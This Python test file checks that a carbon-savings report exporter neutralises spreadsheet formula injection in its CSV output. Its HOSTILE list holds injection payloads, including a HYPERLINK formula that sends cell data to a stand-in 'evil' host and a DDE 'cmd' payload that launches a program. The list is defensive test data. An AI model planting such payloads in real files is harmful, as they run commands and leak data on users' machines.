"""What a spreadsheet opens: figures that are figures, and text that nothing evaluates."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lowtide.report.savings import refresh_savings
from lowtide.report.savings_model import Savings
from lowtide.report.savings_text import _cell, cells_csv, runs_csv

from tests.support.savings import NOW, nightly, savings_of, write_training

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "harmless;=1+1",
    'harmless;"=1+1',
    "harmless, =1+1",
    "\u202e=1+1",
    "\x00=1+1",
]


def read(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


def with_model(root: Path, model: str) -> Savings:
    key = f"model={model}; data=shop.data:digits; zone=GB; effective_batch_size=512"
    write_training(root, "nightly/a", nightly(comparison_key=key, run_id=model, submission_gco2eq_per_kwh=80.0))
    return savings_of(root)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_a_spreadsheet_would_evaluate_is_plain_text(tmp_path: Path, name: str) -> None:
    savings = with_model(tmp_path, name)
    for row in (*read(cells_csv(savings)), *read(runs_csv(savings))):
        assert row["model"].lstrip("'")[:1] not in ("", " ", "\t", "\r", "\n")
        assert row["model"][0] not in "=+-@＝"


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("delimiter", [";", "\t", ","])
def test_nor_does_another_separator_make_a_formula_of_it(tmp_path: Path, name: str, delimiter: str) -> None:
    text = runs_csv(with_model(tmp_path, name)).partition("\n")[2]
    for cells in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in cells:
            first = cell.strip("\"' ")[:1]
            assert cell[:1] not in "=+@＝" or not cell[:1], cell
            assert first != "=" or cell.lstrip(' "').startswith("'"), cell


@given(text=st.text(max_size=40))
def test_no_text_begins_with_what_is_evaluated_and_letters_survive(text: str) -> None:
    cell = _cell(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠") or cell == ""
    assert "\n" not in cell
    assert [c for c in cell if c.isalnum()] == [c for c in text if c.isalnum()]


def test_negative_figures_stay_figures(tmp_path: Path) -> None:
    savings = with_model(tmp_path, "a:net")
    (row,) = read(cells_csv(savings))
    assert float(row["avoided_by_waiting_gco2eq"]) == pytest.approx(-0.0067 * 30)


def test_what_is_not_known_is_an_empty_cell_and_those_left_out_stand_with_their_reason(tmp_path: Path) -> None:
    write_training(tmp_path, "nightly/a", nightly(policy="immediate"))
    write_training(tmp_path, "nightly/b", None)
    rows = read(runs_csv(savings_of(tmp_path)))
    assert [row["avoided_by_waiting_gco2eq"] for row in rows] == ["", ""]
    assert [row["left_out"] for row in rows] == ["", "it left neither record nor ledger"]
    assert rows[0]["ended_at"] == "2026-03-01T23:10:00Z"


def test_a_pivot_of_the_cells_gives_the_totals(tmp_path: Path) -> None:
    for day in range(1, 5):
        key = f"model=m{day % 2}:net; data=d; zone=GB; effective_batch_size=512"
        write_training(tmp_path, f"nightly/{day}", nightly(day, month=1 + day % 3, comparison_key=key))
    savings = savings_of(tmp_path)
    rows = read(cells_csv(savings))
    assert len(rows) == 4
    for name in ("runs", "energy_kwh", "emissions_gco2eq", "avoided_by_waiting_gco2eq"):
        assert sum(float(row[name]) for row in rows) == pytest.approx(getattr(savings.groups[0].total, name))


def test_all_files_are_written_beside_one_another_and_agree(tmp_path: Path) -> None:
    write_training(tmp_path, "nightly/a", nightly())
    savings, paths = refresh_savings(tmp_path, now=NOW)
    assert sorted(path.name for path in (tmp_path / "savings").iterdir()) == ["runs.csv", "savings.csv", "savings.json"]
    stored: dict[str, Any] = json.loads(paths["savings.json"].read_text())
    assert stored == savings.model_dump(mode="json")
    assert paths["savings.csv"].read_text() == cells_csv(savings)
    assert paths["runs.csv"].read_text() == runs_csv(savings)
